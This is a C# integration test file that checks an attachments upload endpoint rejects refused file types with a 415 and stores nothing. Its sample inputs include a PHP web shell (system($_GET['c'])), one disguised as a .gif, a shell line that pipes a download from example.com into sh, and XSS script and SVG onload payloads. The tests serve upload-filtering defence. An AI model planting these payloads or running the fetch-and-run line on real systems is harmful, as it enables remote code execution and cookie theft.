using System.Text;
using Attachments.IntegrationTests.Hostile;
using Attachments.IntegrationTests.Support;

namespace Attachments.IntegrationTests.Envelope;

public sealed class RefusedFileTypeTests : IntegrationTestBase
{
    private static IEnumerable<TestCaseData> RefusedFiles()
    {
        yield return new TestCaseData(HostilePayloads.WindowsExecutable(), "photo.jpg").SetArgDisplayNames("Windows PE named photo.jpg");
        yield return new TestCaseData(HostilePayloads.ElfExecutable(), "photo.png").SetArgDisplayNames("ELF binary");
        yield return new TestCaseData(
            Text("<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>"), "page.txt")
            .SetArgDisplayNames("HTML named page.txt");
        yield return new TestCaseData(
            Text("""<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>"""),
            "logo.svg").SetArgDisplayNames("SVG");
        yield return new TestCaseData(Text("#!/bin/sh\ncurl http://example.com/x | sh\n"), "notes.txt").SetArgDisplayNames("shell script");
        yield return new TestCaseData(Text("<?php system($_GET['c']); ?>\n"), "avatar.php").SetArgDisplayNames("PHP");
        yield return new TestCaseData(Text("GIF-like text <?php system($_GET['c']); ?>\n"), "avatar.gif").SetArgDisplayNames("PHP named .gif");
        yield return new TestCaseData(RandomBytes(), "data.bin").SetArgDisplayNames("random bytes");
    }

    [TestCaseSource(nameof(RefusedFiles))]
    public async Task Upload_RefusedType_Returns415AndLeavesNothing(byte[] content, string fileName)
    {
        var client = await LoggedInClientAsync();

        using var response = await UploadAsync(client, content, fileName);

        await ErrorEnvelope.AssertAsync(response, 415, ErrorEnvelope.Error);
        Assert.That(Storage.Files(), Is.Empty);
        Assert.That(await QueryScalarAsync<long>("select count(*) from attachments"), Is.Zero);
    }

    private static byte[] RandomBytes()
    {
        var bytes = new byte[4096];
        new Random(20261122).NextBytes(bytes);
        bytes[0] = 0x02;
        return bytes;
    }

    private static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);
}
